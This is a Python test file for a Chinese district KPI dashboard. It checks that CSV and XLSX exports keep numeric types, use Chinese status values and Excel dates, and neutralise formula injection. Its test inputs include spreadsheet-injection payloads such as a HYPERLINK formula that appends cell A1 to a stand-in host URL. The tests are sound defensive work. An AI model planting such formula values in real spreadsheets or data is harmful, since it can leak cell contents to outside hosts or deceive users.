"""Downloads carry values, not display text: numbers as numbers (CSV cells that parse, XLSX number
cells), unit and status in columns of their own in Chinese, dates as Excel dates, booleans 是/否,
and text that a spreadsheet would run as a formula escaped in CSV / kept as a string in XLSX.

Files are read back with the csv module and openpyxl, never with the code that wrote them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from etl.cli import main
from kpi import store
from kpi.read import exports, queries
from tests.fixtures.snapshot_fixture import build_fixture_snapshot

DASHBOARD = str(Path(__file__).resolve().parents[1] / "dashboard.py")


@pytest.fixture
def snapshot(isolated_data_dir):
    return build_fixture_snapshot(isolated_data_dir)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def mart(snapshot, sql: str, *params):
    con = duckdb.connect(str(snapshot), read_only=True)
    try:
        return con.execute(sql, list(params)).fetchall()
    finally:
        con.close()


def republish(data_dir, *statements: str):
    """Change the fixture warehouse and publish it again (as a load would)."""
    con = store.connect_warehouse(data_dir)
    try:
        for sql in statements:
            con.execute(sql)
        con.execute("CHECKPOINT")
    finally:
        con.close()
    return store.publish_snapshot(data_dir)


# ── CSV: formula injection, booleans ─────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://x.example/?"&A1,"点我")',
            '\'=HYPERLINK("http://x.example/?"&A1,"点我")',
        ),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.5", "-1.5"),  # a plain number opens as that number: nothing to run
        ("+3", "+3"),
        ("柯城区", "柯城区"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_escapes_text_a_spreadsheet_would_run(cell, written):
    df = pd.DataFrame({"文件": [cell], "得分": [-1.5]})
    (row,) = read_csv(exports.csv_bytes(df))
    assert row["文件"] == written
    assert row["得分"] == "-1.5"  # a negative number in a numeric column stays a number


def test_csv_escapes_headers_and_mixed_object_columns_but_not_numbers():
    df = pd.DataFrame(
        {
            "=危险表头": pd.Series(["=x", 2.5, None], dtype=object),
            "变化": [-0.4, 1.0, None],
            "名次": pd.array([-1, 2, None], dtype="Int64"),
        }
    )
    rows = read_csv(exports.csv_bytes(df))
    assert list(rows[0]) == ["'=危险表头", "变化", "名次"]
    assert [r["'=危险表头"] for r in rows] == ["'=x", "2.5", ""]
    assert [r["变化"] for r in rows] == ["-0.4", "1.0", ""]
    assert [r["名次"] for r in rows] == ["-1", "2", ""]


def test_csv_writes_booleans_as_shi_fou():
    df = pd.DataFrame(
        {
            "按时办结": [True, False, True],
            "是否解决": pd.array([True, None, False], dtype="boolean"),
            "混合": pd.Series([True, "部分", None], dtype=object),
        }
    )
    rows = read_csv(exports.csv_bytes(df))
    assert [r["按时办结"] for r in rows] == ["是", "否", "是"]
    assert [r["是否解决"] for r in rows] == ["是", "", "否"]
    assert [r["混合"] for r in rows] == ["是", "部分", ""]


# ── XLSX: strings stay strings, dates are dates ─────────────────────────────────────────────


def test_xlsx_formula_like_text_is_written_as_a_string_not_a_formula():
    df = pd.DataFrame({"=SUM(A1:A2)": ["=1+1", "@x", "-2+3"], "得分": [-1.5, 2.0, 3.0]})
    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes({"数据": df})))["数据"]
    assert ws["A1"].value == "=SUM(A1:A2)" and ws["A1"].data_type == "s"
    assert [(c.value, c.data_type) for c in ws["A"][1:]] == [
        ("=1+1", "s"),
        ("@x", "s"),
        ("-2+3", "s"),
    ]
    assert ws["B2"].value == -1.5 and ws["B2"].data_type == "n"


def test_xlsx_dates_are_excel_dates_with_a_date_format():
    df = pd.DataFrame(
        {
            "受理时间": pd.to_datetime(["2026-07-01 09:05:00", None]),
            "日期": pd.to_datetime(["2026-07-01", "2026-10-08"]),
            "对象列": pd.Series(
                [dt.date(2026, 9, 30), dt.datetime(2026, 9, 30, 17, 30)], dtype=object
            ),
        }
    )
    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes({"数据": df})))["数据"]
    a2, b2, b3, c2, c3 = ws["A2"], ws["B2"], ws["B3"], ws["C2"], ws["C3"]
    assert a2.is_date and a2.value == dt.datetime(2026, 7, 1, 9, 5)
    assert a2.number_format == "yyyy-mm-dd hh:mm:ss"
    assert ws["A3"].value is None
    assert b2.is_date and b2.value == dt.datetime(2026, 7, 1) and b2.number_format == "yyyy-mm-dd"
    assert b3.value == dt.datetime(2026, 10, 8)
    assert c2.is_date and c2.number_format == "yyyy-mm-dd" and c2.value == dt.datetime(2026, 9, 30)
    assert c3.is_date and c3.value == dt.datetime(2026, 9, 30, 17, 30)


def test_records_xlsx_has_dates_and_booleans_as_words(snapshot):
    con = store.connect_snapshot(snapshot)
    try:
        frame = queries.records(con, "hotline", period="2026Q3", limit=1000)
    finally:
        con.close()
    (n,) = mart(snapshot, "SELECT count(*) FROM hotline WHERE period = '2026Q3'")[0]
    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes({"明细": frame})))["明细"]
    head = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == n
    received = [r[head.index("来电时间")] for r in rows]
    assert all(c.is_date and c.value.year == 2026 for c in received)
    first_id = rows[0][head.index("工单编号")].value
    (expected,) = mart(
        snapshot, "SELECT received_at, resolved FROM hotline WHERE ticket_id = ?", first_id
    )
    assert received[0].value == expected[0]
    resolved = rows[0][head.index("是否解决")].value
    assert resolved == {True: "是", False: "否", None: None}[expected[1]]


def test_records_csv_escapes_formula_text_in_the_content(snapshot, isolated_data_dir):
    path = republish(
        isolated_data_dir,
        """UPDATE hotline SET content = '=HYPERLINK("http://evil.example","查看")'
           WHERE ticket_id = (SELECT min(ticket_id) FROM hotline WHERE period = '2026Q3')""",
    )
    con = store.connect_snapshot(path)
    try:
        frame = queries.records(con, "hotline", period="2026Q3", limit=1000)
    finally:
        con.close()
    rows = read_csv(exports.csv_bytes(frame))
    contents = [r["诉求内容（已脱敏）"] for r in rows]
    assert '\'=HYPERLINK("http://evil.example","查看")' in contents
    assert not any(c.startswith("=") for c in contents)
    assert all(float(r["办理用时（工作日）"]) >= 0 for r in rows if r["办理用时（工作日）"])


# ── bizenv export --table: Chinese values ──────────────────────────────────────────────────


def export_table(data_dir, out, table="indicators", period="2026Q3", fmt=None):
    args = ["export", "--data-dir", str(data_dir), "--period", period, "--table", table]
    args += ["--out", str(out)] + (["--format", fmt] if fmt else [])
    assert main(args) == 0


def test_cli_csv_uses_chinese_status_values(snapshot, isolated_data_dir, tmp_path):
    out = tmp_path / "指标得分.csv"
    export_table(isolated_data_dir, out)
    rows = read_csv(out.read_bytes())
    expected = mart(
        snapshot,
        """SELECT district_name, indicator_key, trend_qoq, rag, scored, direction, source, value
           FROM indicator_scores WHERE period = '2026Q3'""",
    )
    assert len(rows) == len(expected) == 28
    trend = {"improved": "进步", "worsened": "退步", "unchanged": "持平", None: ""}
    rag = {"red": "红", "amber": "黄", "green": "绿", None: ""}
    direction = {"higher_is_better": "越高越好", "lower_is_better": "越低越好"}
    source = {
        "approvals": "办件",
        "hotline": "12345 工单",
        "ratings": "好差评",
        "reports": "指标填报",
    }
    by_key = {(r["区县"], r["指标键"]): r for r in rows}
    for name, key, t, g, scored, d, s, value in expected:
        row = by_key[(name, key)]
        assert row["环比趋势"] == trend[t]
        assert row["预警等级"] == rag[g]
        assert row["参与评分"] == ("是" if scored else "否")
        assert row["方向"] == direction[d]
        assert row["数据来源"] == source[s]
        assert row["进行中"] == "否" and row["全市"] in ("是", "否")
        assert float(row["指标值"]) == pytest.approx(value)
    # 常山县 企业诉求解决率 82 < 预警值 85 → 红, worse than 2026Q2 → 退步
    row = by_key[("常山县", "hotline_resolution_rate")]
    assert (row["预警等级"], row["环比趋势"]) == ("红", "退步")


def test_cli_xlsx_uses_chinese_values_and_keeps_numbers(snapshot, isolated_data_dir, tmp_path):
    out = tmp_path / "综合得分.xlsx"
    export_table(isolated_data_dir, out, table="overall", period="2026Q4")
    ws = openpyxl.load_workbook(out).active
    head = [c.value for c in ws[1]]
    rows = {r[head.index("区县")].value: r for r in ws.iter_rows(min_row=2)}
    assert set(rows) == {"衢州市", "柯城区", "衢江区", "常山县"}
    for r in rows.values():
        assert r[head.index("进行中")].value == "是"  # 2026Q4 is the quarter in progress
        assert r[head.index("得分")].data_type == "n"
    assert rows["衢州市"][head.index("全市")].value == "是"
    assert rows["柯城区"][head.index("全市")].value == "否"
    assert {type(c.value) for r in rows.values() for c in r} <= {str, int, float, type(None)}
    text = {c.value for r in rows.values() for c in r if isinstance(c.value, str)}
    assert not text & {
        "improved",
        "worsened",
        "unchanged",
        "red",
        "amber",
        "green",
        "True",
        "False",
    }


def test_cli_csv_escapes_formula_text(snapshot, isolated_data_dir, tmp_path):
    republish(
        isolated_data_dir,
        "UPDATE overall_scores SET district_name = '=1+2' WHERE district_code = '330803'",
    )
    out = tmp_path / "综合得分.csv"
    export_table(isolated_data_dir, out, table="overall", fmt="csv")
    names = [r["区县"] for r in read_csv(out.read_bytes())]
    assert "'=1+2" in names and "=1+2" not in names


# ── page downloads ──────────────────────────────────────────────────────────────────────────


@pytest.fixture
def captured(monkeypatch):
    """The frames the pages hand to the download buttons, by table key."""
    import ui.tables

    frames: dict[str, pd.DataFrame] = {}
    real = ui.tables.downloads

    def record(df, name, key):
        frames[key] = df
        real(df, name, key)

    monkeypatch.setattr(ui.tables, "downloads", record)
    return frames


def open_page(page: str | None = None, **params: str) -> AppTest:
    at = AppTest.from_file(DASHBOARD, default_timeout=30)
    for k, v in params.items():
        at.query_params[k] = v
    at.run()
    if page:
        at.switch_page(page)
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_overview_downloads_keep_numbers_with_status_columns(snapshot, captured):
    open_page()
    rows = {r["区县"]: r for r in read_csv(exports.csv_bytes(captured["overall_rank"]))}
    expected = mart(
        snapshot,
        """SELECT district_name, rank, score, rank_change, score_qoq, trend_qoq, rag, n_red
           FROM overall_scores WHERE period = '2026Q3' AND NOT is_city""",
    )
    trend = {"improved": "进步", "worsened": "退步", "unchanged": "持平"}
    rag = {"red": "红", "amber": "黄", "green": "绿"}
    for name, rank, score, rank_change, qoq, t, g, n_red in expected:
        r = rows[name]
        assert int(r["排名"]) == rank
        assert float(r["综合指数"]) == pytest.approx(score, abs=0.05)
        assert int(r["名次变化"]) == rank_change
        assert float(r["环比"]) == pytest.approx(qoq, abs=0.005)
        assert (r["环比趋势"], r["等级"], int(r["红色指标"])) == (trend[t], rag[g], n_red)
    assert rows["常山县"]["名次变化"] == "-1"  # fell from 2nd to 3rd
    # every cell is a number or a word, never display text
    text = "".join(v for r in rows.values() for v in r.values())
    assert not set(text) & set("▲▼●–—")

    heat = captured["heatmap"]
    assert list(heat.columns[:3]) == ["指标领域", "全市", "全市等级"]
    gov = heat.set_index("指标领域").loc["政务服务"]
    (score, g) = mart(
        snapshot,
        """SELECT score, rag FROM domain_scores WHERE period = '2026Q3'
           AND domain_key = 'government_services' AND district_code = '330822'""",
    )[0]
    assert gov["常山县"] == pytest.approx(score, abs=0.05) and gov["常山县等级"] == rag[g]


def test_domain_page_downloads_split_value_unit_and_change(snapshot, captured):
    open_page("pages/domains.py", period="2026Q3", domain="government_services")
    rows = read_csv(exports.csv_bytes(captured["indicator_rows"]))
    r = next(x for x in rows if x["区县"] == "常山县" and x["指标"] == "企业诉求解决率")
    (value, qoq) = mart(
        snapshot,
        """SELECT value, value_qoq FROM indicator_scores WHERE period = '2026Q3'
           AND indicator_key = 'hotline_resolution_rate' AND district_code = '330822'""",
    )[0]
    assert float(r["指标值"]) == pytest.approx(value) and r["单位"] == "%"
    assert float(r["环比"]) == pytest.approx(qoq, abs=0.005) and r["环比单位"] == "个百分点"
    assert (r["等级"], r["环比趋势"]) == ("红", "退步")
    days = next(x for x in rows if x["单位"] == "工作日")
    assert days["环比单位"] == "个工作日"
    ranking = read_csv(exports.csv_bytes(captured["domain_rank"]))
    assert {x["等级"] for x in ranking} <= {"红", "黄", "绿", ""}


def test_district_page_downloads_split_value_unit_and_change(snapshot, captured):
    open_page("pages/district.py", period="2026Q3", district="330822")
    weak = read_csv(exports.csv_bytes(captured["weak_indicators"]))
    assert weak and all(float(x["指标值"]) >= 0 and x["单位"] for x in weak)
    assert {x["等级"] for x in weak} <= {"红", "黄", "绿"}
    domains = {x["领域"]: x for x in read_csv(exports.csv_bytes(captured["district_domains"]))}
    (g,) = mart(
        snapshot,
        """SELECT rag FROM domain_scores WHERE period = '2026Q3'
           AND domain_key = 'government_services' AND district_code = '330822'""",
    )[0]
    assert domains["政务服务"]["等级"] == {"red": "红", "amber": "黄", "green": "绿"}[g]
    assert domains["登记财产"]["等级"] == "" and domains["登记财产"]["得分"] == ""  # not scored
    bench = read_csv(exports.csv_bytes(captured["benchmark"]))
    assert bench and {x["等级"] for x in bench} <= {"红", "黄", "绿", ""}


def test_data_page_load_log_download_has_dates(snapshot, captured):
    open_page("pages/data_status.py")
    loads = captured["loads"]
    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes({"导入记录": loads})))["导入记录"]
    head = [c.value for c in ws[1]]
    cells = [r[head.index("导入时间")] for r in ws.iter_rows(min_row=2)]
    assert cells and all(c.is_date for c in cells)
    assert max(c.value for c in cells) == dt.datetime(2026, 11, 19, 18, 3)
